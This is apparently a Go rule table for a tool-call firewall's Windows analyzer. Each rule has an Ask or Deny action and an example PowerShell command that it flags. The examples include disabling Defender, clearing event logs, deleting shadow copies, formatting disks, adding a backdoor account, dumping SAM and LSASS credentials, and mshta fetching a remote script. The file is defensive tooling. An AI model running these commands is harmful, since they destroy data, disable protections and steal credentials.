package windows

import (
	"github.com/toolwall/toolwall"
	"github.com/toolwall/toolwall/analysis"
)

// rules are the rule ids the windows analyzer reports.
var rules = []analysis.Rule{
	{ID: "defense.protection-off", Action: toolwall.Ask, Protects: "Microsoft Defender from being switched off or given exclusions", Example: `PowerShell {"command": "Set-MpPreference -DisableRealtimeMonitoring $true"}`},
	{ID: "defense.security-stop", Action: toolwall.Ask, Protects: "Defender, EDR and event-log services from being stopped or disabled", Example: `PowerShell {"command": "Stop-Service WinDefend"}`},
	{ID: "defense.log-tamper", Action: toolwall.Ask, Protects: "the Windows event logs", Example: `PowerShell {"command": "wevtutil cl Security"}`},
	{ID: "defense.backup-delete", Action: toolwall.Ask, Protects: "shadow copies, backups and Windows recovery", Example: `PowerShell {"command": "vssadmin delete shadows /all /quiet"}`},
	{ID: "system.firewall-off", Action: toolwall.Ask, Protects: "the Windows firewall", Example: `PowerShell {"command": "netsh advfirewall set allprofiles state off"}`},
	{ID: "disk.format", Action: toolwall.Deny, Protects: "volumes from Format-Volume and format", Example: `PowerShell {"command": "Format-Volume -DriveLetter D"}`},
	{ID: "disk.partition", Action: toolwall.Deny, Protects: "disks from Clear-Disk and Remove-Partition", Example: `PowerShell {"command": "Clear-Disk -Number 1 -RemoveData"}`},
	{ID: "disk.overwrite", Action: toolwall.Ask, Protects: "a volume's free space from cipher /w", Example: `PowerShell {"command": "cipher /w:C:\\"}`},
	{ID: "persist.account", Action: toolwall.Ask, Protects: "local accounts and groups", Example: `PowerShell {"command": "net user backdoor P@ss /add"}`},
	{ID: "persist.schedule", Action: toolwall.Ask, Protects: "against scheduled tasks, services and Run keys that start programs later", Example: `PowerShell {"command": "schtasks /create /tn x /tr C:\\x.exe /sc onlogon"}`},
	{ID: "creddump.tool", Action: toolwall.Ask, Protects: "password hashes in the registry hives and from mimikatz", Example: `PowerShell {"command": "reg save HKLM\\SAM C:\\sam.hive"}`},
	{ID: "creddump.process-memory", Action: toolwall.Ask, Protects: "logon credentials in LSASS memory", Example: `PowerShell {"command": "procdump -ma lsass.exe lsass.dmp"}`},
	{ID: "remote.interpreter-exec", Action: toolwall.Deny, Protects: "the machine from scripts mshta, regsvr32 and rundll32 fetch and run", Example: `PowerShell {"command": "mshta http://x.example/a.hta"}`},
}
